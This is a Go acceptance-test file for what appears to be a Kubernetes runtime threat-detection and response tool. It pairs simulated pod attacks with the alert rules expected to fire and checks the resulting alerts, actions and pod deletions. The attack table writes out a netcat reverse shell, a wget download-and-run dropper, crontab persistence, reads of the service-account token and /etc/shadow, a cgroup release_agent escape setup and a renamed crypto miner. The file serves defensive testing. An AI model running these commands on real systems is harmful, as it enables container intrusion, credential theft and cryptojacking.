package accept_test

import (
	"encoding/json"
	"net"
	"slices"
	"testing"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/watch"

	"riposte/agent/alert"
	"riposte/responder/action"
	"riposte/responder/api"
	"riposte/responder/api/client"
)

// pool is where a miner's pool is: an address of a documentation's network, which the
// test gives the node, so that it is a public one and yet leads nowhere.
const pool = "203.0.113.7:3333"

// attack is what an intruder does in a pod, and the rule that must say so.
type attack struct {
	name string
	// typed is entered at a terminal; without it command runs as kubectl exec runs it.
	typed      string
	command    string
	privileged bool
	rule       string
	priority   string
}

// critical says whether the pod is to be deleted.
func (a attack) critical() bool { return a.priority == "Critical" }

// attacks need the addresses of who serves programs and who listens for shells.
func attacks(server, listener string) []attack {
	host, port, _ := net.SplitHostPort(listener)
	netcat := "nc " + host + " " + port + " -e /bin/sh"
	return []attack{
		{name: "terminal", typed: "id\nexit\n", command: "sh", rule: "Terminal shell in a container", priority: "Notice"},
		{name: "token", command: "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
			rule: "Service account token read by an unexpected program", priority: "Warning"},
		{name: "netcat", command: netcat, rule: "Reverse shell command in a container", priority: "Critical"},
		{name: "implant", command: "probe attack reverse-shell " + listener + " /bin/sh", rule: "Connection as standard input in a container", priority: "Critical"},
		{name: "download", command: "wget -q -O /tmp/update http://" + server + "/probe; chmod +x /tmp/update; /tmp/update",
			rule: "Dropped binary started in a container", priority: "Error"},
		{name: "etc", command: "echo '* * * * * root /tmp/update' >> /etc/crontab", rule: "Write below etc in a container", priority: "Warning"},
		{name: "pool", command: "probe attack miner " + pool, rule: "Connection to a usual mining port from a container", priority: "Warning"},
		{name: "miner", command: "cp /bin/probe /tmp/xmrig; /tmp/xmrig attack miner " + pool, rule: "Crypto miner started in a container", priority: "Critical"},
		// Opened and not written: the file is the machine's own.
		{name: "escape", privileged: true, command: "mkdir /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; : >> /tmp/cg/release_agent",
			rule: "Write to release_agent in a container", priority: "Critical"},
		{name: "attempt", command: ": >> /sys/fs/cgroup/release_agent", rule: "Write to release_agent in a container", priority: "Critical"},
		{name: "symlink", typed: "ln -s /etc/shadow /tmp/notes\ncat /tmp/notes\nexit\n", command: "sh",
			rule: "Sensitive file read by a shell in a container", priority: "Critical"},
		{name: "quiet-symlink", command: "ln -s /etc/shadow /tmp/notes; cat /tmp/notes",
			rule: "Sensitive file read by an unexpected program in a container", priority: "Warning"},
		{name: "renamed", command: "cp /bin/probe /tmp/kworker; /tmp/kworker attack reverse-shell " + listener + " /bin/sh",
			rule: "Connection as standard input in a container", priority: "Critical"},
	}
}

// deletions follows the pods of a namespace: how often each was deleted.
type deletions struct {
	watch.Interface
	seen map[types.UID]int
}

func (c *cluster) follow(t *testing.T, namespace string) *deletions {
	t.Helper()
	w, err := c.CoreV1().Pods(namespace).Watch(t.Context(), metav1.ListOptions{})
	require.NoError(t, err)
	t.Cleanup(w.Stop)
	return &deletions{Interface: w, seen: map[types.UID]int{}}
}

// until reads on until this pod was seen to go.
func (d *deletions) until(t *testing.T, uid types.UID) {
	t.Helper()
	eventually(t, "the end of pod "+string(uid), func() bool { d.read(t); return d.seen[uid] > 0 })
}

// read takes what there is.
func (d *deletions) read(t *testing.T) {
	t.Helper()
	for {
		select {
		case event, open := <-d.ResultChan():
			require.True(t, open, "the API server ended the watch")
			if pod, ok := event.Object.(*corev1.Pod); ok && event.Type == watch.Deleted {
				d.seen[pod.UID]++
			}
		default:
			return
		}
	}
}

// alertOf waits for the alert of this rule about this pod.
func alertOf(t *testing.T, own *client.Client, rule string, pod corev1.Pod) (found api.Alert) {
	t.Helper()
	eventually(t, rule+" about "+pod.Name, func() bool {
		page, err := own.Alerts(t.Context(), client.AlertFilter{Rule: rule, Namespace: pod.Namespace, Limit: 500})
		if err != nil {
			return false
		}
		i := slices.IndexFunc(page.Items, func(a api.Alert) bool { return a.PodUID == string(pod.UID) })
		if i >= 0 {
			found = page.Items[i]
		}
		return i >= 0
	})
	return found
}

// names checks that an alert says exactly what it is about.
func names(t *testing.T, a api.Alert, pod corev1.Pod, priority string) {
	t.Helper()
	var body alert.Alert
	require.NoError(t, json.Unmarshal(a.Body, &body))
	require.Equal(t, []string{pod.Namespace, pod.Name, string(pod.UID), "bound", priority, pod.Spec.NodeName},
		[]string{a.Namespace, a.Pod, a.PodUID, a.Binding, a.Priority, a.Node})
	require.Equal(t, pod.Labels, body.Riposte.Pod.Labels)
	require.Equal(t, "ReplicaSet/"+pod.OwnerReferences[0].Name, body.Riposte.Pod.Owner)
	require.Equal(t, image, body.Riposte.Container.Image)
	require.Equal(t, containerOf(pod), body.Riposte.Container.ID)
}

// done waits until an action of this type on this pod has got somewhere. Which alert it is
// for counts for nothing: of several about one pod the first that is decided has the
// action, and the others join it.
func done(t *testing.T, own *client.Client, typ string, pod corev1.Pod, ready func(api.Action) bool) (found api.Action) {
	t.Helper()
	eventually(t, typ+" of "+pod.Name, func() bool {
		all, err := actions(t, own, typ, pod)
		if err != nil {
			return false
		}
		i := slices.IndexFunc(all, ready)
		if i >= 0 {
			found = all[i]
		}
		return i >= 0
	})
	return found
}

func verified(a api.Action) bool { return a.VerifiedAt != nil }

// actions are those of a type on this pod or its container.
func actions(t *testing.T, own *client.Client, typ string, pod corev1.Pod) (all []api.Action, err error) {
	t.Helper()
	page, err := own.Actions(t.Context(), client.ActionFilter{Type: typ, Namespace: pod.Namespace, Limit: 500})
	if err != nil {
		return nil, err
	}
	require.Empty(t, page.Next, "more actions than a page")
	for _, a := range page.Items {
		var target action.Target
		require.NoError(t, json.Unmarshal(a.Target, &target))
		if target.UID == string(pod.UID) || target.ContainerID == containerOf(pod) {
			all = append(all, a)
		}
	}
	return all, nil
}

// effects is how many actions of a type on this pod were carried out.
func effects(t *testing.T, own *client.Client, typ string, pod corev1.Pod) (n int) {
	t.Helper()
	all, err := actions(t, own, typ, pod)
	require.NoError(t, err)
	for _, a := range all {
		if a.ExecutedAt != nil {
			n++
		}
	}
	return n
}
